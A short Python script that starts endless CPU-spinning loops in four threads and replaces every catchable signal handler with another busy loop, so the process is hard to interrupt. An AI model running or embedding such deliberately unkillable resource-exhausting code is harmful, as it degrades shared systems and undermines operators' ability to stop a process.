import signal
import threading


def burn():
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


class Phoenix:
    def __del__(self):
        burn()


for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, lambda *_: burn())
for _ in range(4):
    threading.Thread(target=burn).start()
Phoenix()
